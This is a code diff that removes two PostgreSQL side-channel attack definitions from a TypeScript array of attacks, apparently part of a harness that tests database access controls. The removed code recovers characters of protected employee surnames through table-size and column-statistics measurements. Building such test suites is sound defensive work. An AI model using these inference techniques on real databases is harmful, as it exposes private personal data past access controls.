@@ -300,29 +300,4 @@ export const blanks: readonly Attack[] = [
     'EXPLAIN SELECT s FROM atk_waga',
     (text) => Number(/width=(\d+)/.exec(text)?.[1] ?? 0) - 1,
   ),
-  weighed(
-    'width-of-expression',
-    (at) => [
-      `CREATE TABLE atk_waga AS SELECT nazwisko ${ROW}`,
-      `CREATE INDEX atk_waga_i ON atk_waga (${LONG(at)})`,
-      'ANALYZE atk_waga',
-    ],
-    `SELECT avg_width FROM pg_stats WHERE tablename = 'atk_waga_i'`,
-    (text) => Number(text) - 1,
-  ),
-  weighed(
-    'size-of-table',
-    (at) => [
-      `CREATE TABLE atk_waga AS SELECT CASE WHEN g > 0 THEN repeat('x', 4 * ascii(${CHAR(at)})) END AS s FROM rejestr.pracownicy, generate_series(1, 9000) g WHERE id = 5`,
-    ],
-    `SELECT pg_relation_size('atk_waga') / 8192`,
-    (pages) => {
-      // So many rows of that length fit into a page.
-      for (let code = 33; code < 127; code++) {
-        const row = 4 + Math.ceil((24 + 4 + 4 * code) / 8) * 8;
-        if (Math.ceil(9000 / Math.floor((8192 - 24) / row)) === Number(pages)) return code;
-      }
-      return 63;
-    },
-  ),
 ];
